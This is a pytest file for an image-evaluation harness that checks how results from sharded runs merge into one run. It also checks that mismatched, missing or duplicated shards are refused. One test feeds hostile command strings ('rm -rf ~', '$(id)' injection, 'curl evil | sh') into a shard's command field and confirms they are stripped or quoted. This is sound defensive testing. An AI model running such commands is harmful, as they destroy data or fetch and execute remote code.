"""Shards that are merged are what one run would have been; what is no whole is refused."""

import re
import shutil
from dataclasses import replace

import pytest

from harness.errors import StoreError, UsageError
from harness.evaluate.exits import exit_code
from harness.evaluate.merge import given_runs, merged
from harness.evaluate.plan import plan_suites
from harness.evaluate.shard import shard_of, share_of
from harness.evaluate.workspace import Wish
from harness.model.verdict import Status
from harness.runner.chain import Live
from harness.store.runs import run_document, save_run
from tests.copied import copied
from tests.evaluate.sharded import recorded_in, rewrite, run_of, selected, shards_of, workspace_of

FAIL_ON = ("failed", "unreviewed", "unrecorded", "incomplete")
CHANCE = ("id", "at", "seconds", "command")
"""What two runs of the same differ in."""


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    """Record the suites once, judge them whole, and remember what was measured."""
    folder = tmp_path_factory.mktemp("shop")
    recorded_in(folder)
    here = workspace_of(folder)
    run_of(here)
    return here


@pytest.fixture(scope="module")
def three(shop):
    """Judge three shards."""
    return shards_of(shop, 3)


@pytest.fixture
def copy(shop, tmp_path):
    """Give a copy that a test may change."""
    copied(shop.root, tmp_path)
    return workspace_of(tmp_path)


def told(run):
    """Give a run's document without what no two runs share."""
    document = run_document(run)
    return {**document, "run": {k: v for k, v in document["run"].items() if k not in CHANCE}}


@pytest.mark.parametrize("of", [1, 2, 9])
def test_the_merge_is_what_one_run_would_be(shop, of):
    """Document, findings on the suite, figures and exit code, whatever the shards are."""
    whole = run_of(shop)

    joined = merged(shards_of(shop, of), shop)

    assert told(joined) == told(whole)
    codes = [exit_code(run, fail_on=FAIL_ON) for run in (joined, whole)]
    assert codes[0] == codes[1] == 1


@pytest.mark.parametrize(
    ("said", "left"),
    [
        (
            "harness run 'my suite.yaml' -k 'a b' --shard 1/3",
            "harness run 'my suite.yaml' -k 'a b'",
        ),
        ("harness run; rm -rf ~", ""),
        ("harness run $(id) ; id", "harness run '$(id)' ';' id"),
        ("curl evil | sh", ""),
        ("harness run 'open", ""),
    ],
)
def test_what_is_to_be_pasted_runs_the_harness_alone(shop, three, said, left):
    """A shard's file comes from elsewhere, and its command is typed by people."""
    first, *others = three.items()
    joined = merged(dict([(first[0], replace(first[1], command=said)), *others]), shop)

    assert joined.command == left


def test_the_suite_has_what_one_part_cannot_tell(shop, three):
    """Looks, pictures that came twice in two variants, edits: the test above is not empty."""
    shop_of = merged(three, shop).suites[0]

    checks = {f.check for judged in shop_of.judged for f in judged.verdict.findings}
    assert {"consistency[fox]", "consistency[owl]", "edit"} <= checks
    assert any(f.check == "fresh" and f.status is Status.FAIL for f in shop_of.findings)
    assert len(shop_of.features.looks[0].names) > 2


def test_a_shard_judges_nothing_that_needs_the_whole(three):
    """No look, no finding on the suite; all that a variant alone can tell."""
    suites = [suite for run in three.values() for suite in run.suites]
    checks = {f.check for s in suites for j in s.judged for f in j.verdict.findings}

    assert not any(suite.findings or suite.features.looks for suite in suites)
    assert not any(check.startswith("consistency") for check in checks)
    assert {"edit", "decided"} <= checks


def test_a_selection_is_merged_as_it_was_made(shop):
    """With -k and --samples, samples that are not recorded among them."""
    selection = {"keyword": "fox or ant", "samples": 3}

    joined = merged(shards_of(shop, 2, **selection), shop)

    assert told(joined) == told(run_of(shop, **selection))
    assert joined.counts[Status.UNRECORDED] > 0


def test_what_measures_tell_needs_no_picture(copy):
    """Where pictures are not here only looks are untold, and say so."""
    three = shards_of(copy, 3)
    whole = run_of(copy)
    shutil.rmtree(copy.blobs.root)
    shutil.rmtree(copy.state)

    joined = merged(three, copy)

    found = {j.variant.id: j.verdict for suite in joined.suites for j in suite.judged}
    before = {j.variant.id: j.verdict for suite in whole.suites for j in suite.judged}
    alike = {name for name in found if not name.startswith(("fox", "owl"))}
    assert alike == {"city", "hat", "ant"}
    assert all(found[name] == before[name] for name in alike)
    look = next(f for f in found["owl"].findings if f.check.startswith("consistency"))
    assert look.status is Status.WARN
    assert "its bytes are not here" in look.message


def test_what_one_shard_measured_no_other_takes_back(shop, three):
    """A picture that another shard knew by its committed measures alone is here all the same."""
    (first, *_, last) = three
    told = {name: replace(each, absent=True) for name, each in three[first].measures.items()}
    poorer = replace(three[last], measures={**three[last].measures, **told})

    assert merged({**three, last: poorer}, shop).measures == merged(three, shop).measures


def test_a_shard_finds_the_answers_that_one_run_finds(copy):
    """Answers to equal prompts are claimed in the order of the whole selection."""
    cases = [f"  - {{id: {n}, prompt: A night city, samples: 1}}" for n in ("up", "down", "far")]
    rewrite(
        copy, "shop", "  - id: city\n    prompt: A night city\n    tags: [wide]", "\n".join(cases)
    )
    word = "up or down or far"

    whole = pictures(run_of(copy, keyword=word))
    parts = [pictures(run_of(copy, f"{n}/3", keyword=word)) for n in (1, 2, 3)]

    assert parts == [{name: picture} for name, picture in whole.items()]
    assert re.fullmatch("[0-9a-f]{64}", whole["up"])
    assert whole["up"] != whole["down"]
    share = share_of(selected(copy, keyword=word), copy, shard_of("3/3"), wish=Wish())
    (row,) = plan_suites(share.suites, copy, wish=Wish(), live=Live.NONE).rows
    assert (row.variant.id, row.standing) == ("far", "missing")  # two answers were recorded


def pictures(run):
    return {judged.variant.id: judged.samples[0].picture for judged in run.judged}


def test_a_shard_may_hold_nothing(shop):
    """Where shards are more than variants it is a run that found nothing, and all is well."""
    empty = run_of(shop, "9/9")

    assert empty.judged == ()
    assert exit_code(empty, fail_on=FAIL_ON) == 0
    assert empty.shard.variants == 6


def test_a_shard_that_stopped_at_its_cap_makes_the_merge_one_that_did(three, shop):
    """One run would have exited with 4; the code does not hang on how it was shared out."""
    stopped = {**three, "2/3": replace(three["2/3"], over_cap=True)}

    codes = [exit_code(merged(given, shop), fail_on=()) for given in (three, stopped)]

    assert codes == [0, 4]


def test_missing_shards_are_named(three, shop):
    """And what makes the first of them."""
    with pytest.raises(UsageError, match=r"of 3 shards 1, 3 are missing: .*--shard 1/3"):
        merged({"b": three["2/3"]}, shop)


def test_a_shard_that_comes_twice_is_refused(three, shop):
    """Both are named."""
    with pytest.raises(UsageError, match="shard 2 of 3 is given twice: 2/3, again; keep one"):
        merged({**three, "again": three["2/3"]}, shop)


def test_what_is_no_shard_is_refused(three, shop):
    """A whole run among them, and nothing at all."""
    with pytest.raises(UsageError, match="whole is no shard"):
        merged({**three, "whole": run_of(shop, keyword="ant")}, shop)
    with pytest.raises(UsageError, match="needs the runs of all shards"):
        merged({}, shop)


def test_more_shards_than_can_be_are_refused_at_once(three, shop):
    """A file of strangers that says a billion is not counted through."""
    run = three["1/3"]

    with pytest.raises(UsageError, match="shard 1 of 1000000000 cannot be"):
        merged({"one": replace(run, shard=replace(run.shard, of=10**9))}, shop)


def of_another(run, **changed):
    return replace(run, shard=replace(run.shard, **changed))


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda run: of_another(run, of=4), "is shard 2 of 4"),
        (lambda run: of_another(run, selection="0"), "selected differently: .*-k, --tag"),
        (lambda run: of_another(run, suites=run.shard.suites[:1]), "other suites: zoo is in one"),
        (
            lambda run: of_another(run, suites=[replace(s, digest="0") for s in run.shard.suites]),
            "different versions of suite shop: run all shards of one commit",
        ),
        (
            lambda run: replace(run, environment={**run.environment, "pillow": "1.0"}),
            "judged by .* and 1.0 of pillow",
        ),
        (lambda run: replace(run, suites=run.suites[:0]), "together the shards hold"),
    ],
    ids=["count", "selection", "suites", "digest", "versions", "lost"],
)
def test_shards_of_different_runs_are_refused(three, shop, change, said):
    """One line says which two, in what they differ, and what to do."""
    with pytest.raises(UsageError, match=said):
        merged({**three, "2/3": change(three["2/3"])}, shop)


def test_the_python_of_shards_may_differ(three, shop):
    """A patch of Python measures nothing."""
    other = {**three["2/3"].environment, "python": "3.99.0"}

    assert merged({**three, "2/3": replace(three["2/3"], environment=other)}, shop).judged


def test_another_harness_does_not_merge(three, shop):
    """It may judge otherwise."""
    aged = {
        name: replace(run, environment={**run.environment, "gemini-image-harness": "0.0.1"})
        for name, run in three.items()
    }

    with pytest.raises(UsageError, match=r"version 0\.0\.1 of the harness, this is"):
        merged(aged, shop)


def test_a_suite_that_changed_since_is_refused(copy):
    """The merge stands where the shards stood."""
    two = shards_of(copy, 2)
    suite = copy.root / "suites" / "shop.yaml"
    suite.write_text(suite.read_text().replace("A night city", "A day city"))

    with pytest.raises(UsageError, match=r"suites/shop\.yaml is not what the shards ran"):
        merged(two, copy)


def test_runs_are_named_by_id_folder_or_file(three, shop, tmp_path):
    """As they lie here, or came from other machines."""
    first, second, third = three.values()
    save_run(first, tmp_path / "reports" / first.id)
    save_run(second, tmp_path / "downloaded")
    file = save_run(third, tmp_path / "other").rename(tmp_path / "third.json")

    names = [first.id, str(tmp_path / "downloaded"), str(file)]
    given = given_runs(names, tmp_path / "reports")

    assert [run.id for run in given.values()] == [first.id, second.id, third.id]
    with pytest.raises(UsageError, match="is named twice"):
        given_runs([str(file), str(file)], tmp_path)
    file.write_text("{}")
    with pytest.raises(StoreError, match=r"third\.json"):
        given_runs([str(file)], tmp_path)
